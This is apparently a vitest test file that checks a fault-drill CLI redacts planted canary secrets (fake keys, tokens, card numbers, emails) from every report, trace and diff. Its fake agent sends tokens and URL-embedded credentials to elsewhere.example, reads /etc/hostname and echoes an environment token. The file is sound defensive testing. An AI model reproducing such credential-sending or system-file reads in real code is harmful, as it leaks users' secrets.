import { createHash } from 'node:crypto';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fakeTerminal } from './cli/terminal.fixture.ts';
import { type Ran, runDrill } from './drill-run.fixture.ts';
import { Project } from './project.fixture.ts';
import { allIn } from './reporters/html/read-page.fixture.ts';

const { main } = await import('./cli/main.ts');

// --- what is planted ----------------------------------------------------------

/** Letters and digits that stand nowhere else. */
const core = (n: number, length: number) =>
  createHash('sha256').update(`canary ${n}`).digest('base64').replace(/\W/g, 'x').slice(0, length);
const digitsOf = (n: number) => String(100_000 + n);

function card(n: number): string {
  const digits = `4${String(271_828_182_000 + n * 7)}00`;
  const check = [0, 1, 2, 3, 4, 5, 6, 7, 8, 9].find((c) => luhn(`${digits}${c}`));
  return `${digits}${check}`.replace(/\d{4}(?=\d)/g, '$& ');
}
function luhn(digits: string): boolean {
  const doubled = [...digits].map((d, i) => Number(d) * (2 - (i % 2))).map((d) => (d > 9 ? d - 9 : d));
  return doubled.reduce((sum, d) => sum + d, 0) % 10 === 0;
}

/** Nothing about this one but the name of its variable says that it is a secret. */
const FROM_ENVIRONMENT = 'four plain words nobody knows';

/** As it is written, and the part that may be found nowhere. */
const KINDS: Record<string, (n: number) => { written: string; secret: string }> = {
  key: (n) => ({ written: `key sk-proj-${core(n, 24)}`, secret: core(n, 24) }),
  bearer: (n) => ({ written: `Bearer ${core(n, 20)}`, secret: core(n, 20) }),
  email: (n) => ({ written: `from jane${n}.doe@canary.example,`, secret: `jane${n}.doe@canary.example` }),
  card: (n) => ({ written: `card ${card(n)}.`, secret: card(n) }),
  phone: (n) => ({ written: `call +1 415 555 ${1000 + n} now`, secret: `+1 415 555 ${1000 + n}` }),
  configured: (n) => ({ written: `customer CUST-${digitsOf(n)} asks`, secret: `CUST-${digitsOf(n)}` }),
  environment: () => ({ written: `"${FROM_ENVIRONMENT}"`, secret: FROM_ENVIRONMENT }),
};

const hex = (c: string, width: number) => c.charCodeAt(0).toString(16).padStart(width, '0');
const ENCODINGS: Record<string, (text: string) => string> = {
  raw: (text) => text,
  json: (text) => text.replace(/[^A-Za-z0-9]/g, (c) => `\\u${hex(c, 4)}`),
  url: (text) => text.replace(/[^A-Za-z0-9]/g, (c) => `%${hex(c, 2)}`),
  base64: (text) => Buffer.from(text).toString('base64'),
  base64url: (text) => Buffer.from(text).toString('base64url'),
};

interface Planted {
  channel: string;
  what: string;
  secret: string;
}
const planted: Planted[] = [];

/** Canaries of each kind in each encoding, no two the same, in one line. */
function plant(
  channel: string,
  kinds = Object.keys(KINDS),
  encodings = Object.keys(ENCODINGS),
  between = ' ; ',
): string {
  const pieces = kinds.flatMap((kind) =>
    encodings.map((encoding) => {
      const made = KINDS[kind]?.(planted.length);
      if (made === undefined) throw new Error(`no kind ${kind}`);
      planted.push({ channel, what: `${kind}, ${encoding}`, secret: made.secret });
      return ENCODINGS[encoding]?.(made.written) ?? '';
    }),
  );
  return pieces.join(between);
}

/** One canary, as it is. */
function plantOne(channel: string, kind: string): string {
  plant(channel, [kind], ['raw']);
  return planted.at(-1)?.secret ?? '';
}

// --- the project it is planted in ---------------------------------------------

const CHANNELS = [
  ...['prompt', 'tool arguments', 'header', 'kept header', 'model name', 'url', 'notice', 'state', 'data', 'citation'],
  ...['answer', 'error', 'log', 'error body', 'wrong shape', 'policy version'],
];
const SAFE_IN_URLS = ['url', 'base64url'];
const texts = Object.fromEntries(
  CHANNELS.map((channel) => [
    channel,
    ['url', 'error body', 'model name'].includes(channel)
      ? plant(channel, undefined, SAFE_IN_URLS, '/')
      : plant(channel),
  ]),
);
/** Texts under names that say what they are; nothing else about them does. */
const hidden = Object.fromEntries(
  ['password', 'api_key', 'secret', 'token', 'Authorization'].map((name, i) => {
    const secret = `unremarkable${'abcde'[i]}`;
    planted.push({ channel: 'telling key', what: name, secret });
    return [name, secret];
  }),
);
const query = plantOne('query', 'bearer');
const login = plantOne('credentials in a url', 'bearer');
const spareLogin = plantOne('credentials in a base_url', 'bearer');
const inTask = plant('golden task', undefined, ['raw', 'url', 'base64']);
const inSource = plant('source text');
const inPhrase = plant('phrase', undefined, ['raw']);
const inTitle = plant('drill', ['key', 'email', 'card'], ['raw']);
const inHypothesis = plant('drill', ['bearer', 'email', 'phone', 'configured'], ['raw', 'base64']);
const sourceIds = [`order_${plantOne('file name', 'email')}`, `sk-proj-${plantOne('file name', 'key')}`];
const moduleName = `${plantOne('module name', 'email')}.mjs`;

/** Plants the texts everywhere a target can leave something, and keeps what it planted for the test to see. */
const AGENT = `
import { readHost } from './${moduleName}';
const texts = ${JSON.stringify(texts)};
const kept = (globalThis.plantedHere ??= []);
const keep = (value) => (kept.push(value), value);

async function ask(role, task, model = role.model) {
  const body = {
    model,
    messages: [
      { role: 'user', content: task.input + JSON.stringify(task.sources) + texts.prompt },
      { role: 'assistant', content: null, tool_calls: [{ id: 't1', type: 'function', function: { name: 'lookup_order', arguments: texts['tool arguments'] } }] },
      { role: 'tool', tool_call_id: 't1', content: texts['tool arguments'] },
    ],
    tools: [{ type: 'function', function: { name: 'lookup_order', description: texts['tool arguments'], parameters: {} } }],
  };
  const headers = { 'content-type': 'application/json; note=' + texts['kept header'], authorization: 'Bearer ' + role.api_key, 'x-note': texts.header };
  keep({ body, headers });
  const reply = await fetch(role.base_url + '/chat/completions', { method: 'POST', headers, body: JSON.stringify(body), signal: AbortSignal.timeout(3000) });
  return (await reply.json()).choices[0].message.content;
}

async function goAstray(role) {
  const urls = ['https://elsewhere.example/v1/' + texts.url + '?token=${query}', 'https://me:${login}@elsewhere.example/'];
  for (const url of urls) await fetch(keep(url), { method: 'POST' }).catch((error) => keep(String(error)));
  const reply = await fetch(role.base_url + '/' + texts['error body'] + '/v1/messages', { method: 'POST' });
  return keep(await reply.text());
}

export const declares = { features: ['fallback', 'deadline', 'notice', 'log'], chain: ['primary', 'backup'] };
export default async (task, { roles }) => {
  await readHost();
  const answer = await ask(roles.primary, task).catch(() => ask(roles.backup, task));
  if (task.id.startsWith('throws')) throw keep(new TypeError(texts.error + ' at ' + new Error(texts.error).stack));
  if (task.id.startsWith('wrong')) return keep({ kind: texts['wrong shape'], [texts['wrong shape']]: 1 });
  if (task.id.startsWith('plain')) return { kind: 'answered', answer, citations: task.sources.map((s) => s.id) };
  await ask(roles.backup, task, texts['model name']).catch(() => {});
  const body = await goAstray(roles.backup);
  const log = { task_id: task.id, tenant_hash: texts.log, workflow_step: texts.log, primary_model: texts.log, failure_mode: null, fallback_model: texts.log, tool_mode: 'full', schema_status: 'valid', quality_gate: 'passed', latency_ms: 1, cost_usd: 0, degraded: true, trace_id: texts.log, source_ids: [texts.log], schema_version: texts.log };
  return keep({
    kind: 'answered', answer: answer + ' ' + texts.answer, citations: [texts.citation], policy_version: texts['policy version'],
    data: { nested: [{ deep: texts.data }], [texts.data]: true, ...${JSON.stringify(hidden)} },
    notice: { works: texts.notice, limited: texts.notice, action: texts.notice, saved: texts.notice, next: texts.notice },
    state: { body, text: texts.state, stack: new Error(texts.state).stack, url: new URL('https://me:${login}@elsewhere.example/'), env: process.env.CANARY_SERVICE_TOKEN, ...${JSON.stringify(hidden)} },
    degraded: true, model: texts.log, cost_usd: 1, log: [log],
  });
};
`;

const role = (model: string, host = 'api.openai.com') =>
  `{ provider: openai, protocol: openai-chat, base_url: 'https://${host}/v1', model: ${model}, key_env: OPENAI_API_KEY }`;
const task = (name: string, more: object = {}) =>
  JSON.stringify({ name, input: `Is my lamp replaced? ${inTask}`, fixtures: ['policy_v1', ...sourceIds], ...more });

const FILES: Record<string, string> = {
  'agent.mjs': AGENT,
  [moduleName]:
    "import { readFile } from 'node:fs/promises';\nexport const readHost = () => readFile('/etc/hostname').catch(() => {});\n",
  'drill.config.yaml': `roles:\n  primary: ${role('gpt-5-mini')}\n  backup: ${role('gpt-5-nano', 'models.example')}\n  spare: ${role('m', `me:${spareLogin}@spare.example`)}\nredact: ['CUST-[0-9]{6}']\n`,
  'drills/canaries.yaml': `drill: canaries\ntitle: ${JSON.stringify(inTitle)}\nhypothesis: ${JSON.stringify(inHypothesis)}\nworkflow: mine\nphases:\n  - { name: outage, tasks: 4, faults: [{ fault: hang, role: primary }] }\nexpect:\n  fails-over: { role: backup, within_ms: 8000 }\n  admits-degraded-mode: {}\n`,
  'tasks/leaks.json': task('leaks', { must_include: [inPhrase, 'order 1042'], must_not: [`never ${inPhrase}`] }),
  'tasks/plain.json': task('plain', {
    answer: 'Order 1042 came on 8 October 2026. Please write to care@lamps.example, not to us.',
    must_include: ['care@lamps.example', 'order 1042'],
    must_not: ['sales@lamps.example'],
    requires_citation: true,
  }),
  'tasks/throws.json': task('throws'),
  'tasks/wrong_shape.json': task('wrong_shape'),
  'tasks/sources/policy_v1.md': `A broken lamp is replaced within 30 days. ${inSource}\n`,
  ...Object.fromEntries(sourceIds.map((id) => [`tasks/sources/${id}.md`, 'Order 1042, one lamp.\n'])),
};

// --- looking for it -------------------------------------------------------------

/** A text, and all it says to somebody who takes the trouble to decode it. Knows nothing of how redaction works. */
function readings(text: string): string {
  let all = text;
  let layer = text;
  for (let i = 0; i < 4; i++) {
    layer = layer
      .replace(/\\u([0-9a-f]{4})/gi, (_, code: string) => String.fromCharCode(Number.parseInt(code, 16)))
      .replace(/\\(.)/g, '$1')
      .replace(/%([0-9a-f]{2})/gi, (_, code: string) => String.fromCharCode(Number.parseInt(code, 16)));
    const runs = layer.match(/[A-Za-z0-9+/_-]{12,}/g) ?? [];
    const decoded = runs.flatMap((run) =>
      [0, 1, 2, 3].map((skip) => Buffer.from(run.slice(skip), 'base64').toString()),
    );
    all += `\n${layer}\n${decoded.join('\n')}`;
  }
  return all;
}

function found(text: string): Planted[] {
  const all = readings(text);
  return planted.filter(({ secret }) => all.includes(secret));
}

function folderIn({ cwd }: Project, name: string): string {
  const folder = join(cwd, 'reports', name);
  mkdirSync(folder, { recursive: true });
  return folder;
}

describe('canaries', () => {
  let runs: Ran[];
  let unredacted: string;

  beforeAll(async () => {
    process.env['CANARY_SERVICE_TOKEN'] = FROM_ENVIRONMENT;
    using project = new Project(FILES);
    const reporter = ['html', 'csv', 'otlp', 'pull-request'];
    const request = { cwd: project.cwd, names: ['canaries'], target: './agent.mjs', tasks: 'tasks', reporter };
    runs = [await runDrill(request), await runDrill({ ...request, json: true, jobs: 2 })];
    unredacted = JSON.stringify(Reflect.get(globalThis, 'plantedHere'), (_, value: unknown) =>
      value instanceof Error ? `${value.message}${value.stack}` : value,
    );
  });
  afterAll(() => {
    delete process.env['CANARY_SERVICE_TOKEN'];
    Reflect.deleteProperty(globalThis, 'plantedHere');
  });

  it('are really planted: without redaction each would be found', () => {
    const written = [unredacted, ...Object.values(FILES), ...Object.keys(FILES)].join('\n');
    expect(planted.length).toBeGreaterThan(500);
    expect(found(written)).toEqual(planted);
    // What only the target writes is there because it ran.
    const fromTarget = new Set(found(unredacted).map((p) => p.channel));
    for (const channel of CHANNELS) expect(fromTarget, channel).toContain(channel);
  });

  it('are in no file of the run folder and on no screen', () => {
    for (const run of runs) {
      expect(Object.keys(run.files).sort()).toEqual([
        'SHA256SUMS',
        'bodies.jsonl',
        'inputs.json',
        'junit.xml',
        'report.html',
        'report.md',
        'run.json',
        'summary.md',
        'tasks.csv',
        'trace.jsonl',
        'traces.otlp.json',
      ]);
      for (const [name, text] of [...Object.entries(run.files), ['the screen', run.screen] as const])
        expect(found(name === 'report.html' ? allIn(text) : text), name).toEqual([]);
    }
  });

  it('are in no comparison of runs and no history', async () => {
    using stored = new Project({});
    for (const [i, { files }] of runs.entries())
      for (const [name, text] of Object.entries(files))
        writeFileSync(join(folderIn(stored, `2026-01-0${i + 1}T12-00-00-canaries`), name), text);
    for (const words of [
      ['diff'],
      ['diff', '--json'],
      ['diff', '--as', 'markdown'],
      ['diff', '--as', 'html'],
      ['history', '--json'],
    ]) {
      const terminal = fakeTerminal({ cwd: stored.cwd });
      expect(await main(['node', 'drill', ...words], terminal), terminal.err()).toBe(0);
      expect(terminal.out()).toContain('canaries');
      expect(found(terminal.out()), words.join(' ')).toEqual([]);
    }
  });

  it('leave everything else readable', () => {
    const [run] = runs;
    if (run === undefined) throw new Error('nothing ran');
    const kinds = new Set(run.trace.map((e) => e.kind));
    for (const kind of ['call', 'unknown-call', 'log', 'outcome', 'real-io', 'fault-fired'])
      expect(kinds).toContain(kind);
    const plain = run.report.drills[0]?.tasks.find((t) => t.task === 'plain');
    expect(plain?.outcome).toMatchObject({
      answer: expect.stringMatching(
        /^Order 1042 came on 8 October 2026\. Please write to \[redacted \w\w\], not to us\.$/,
      ),
      citations: ['policy_v1', expect.stringMatching(/^order_|^\[redacted/), expect.stringMatching(/redacted/)],
    });
    for (const words of ['canaries', 'outage', 'fails-over', 'includes-required', 'leaks', 'primary', 'gpt-5-nano']) {
      expect(run.files['report.md'], words).toContain(words);
      expect(run.files['trace.jsonl'] + (run.files['run.json'] ?? ''), words).toContain(words);
    }
    expect(run.files['inputs.json']).toContain('A broken lamp is replaced within 30 days.');
    expect(run.screen).toMatch(/plain .*primary timeout → backup/);
  });

  it('change no verdict: what was redacted is still the same or another', () => {
    const checks = runs[0]?.report.drills[0]?.tasks.find((t) => t.task === 'plain')?.checks ?? [];
    const verdicts = Object.fromEntries(checks.map((c) => [c.check, `${c.verdict}: ${c.reason}`]));
    for (const check of ['includes-required', 'avoids-forbidden', 'arrives-whole', 'cites-sources'])
      expect(verdicts[check]).toMatch(/^passed/);
  });
});
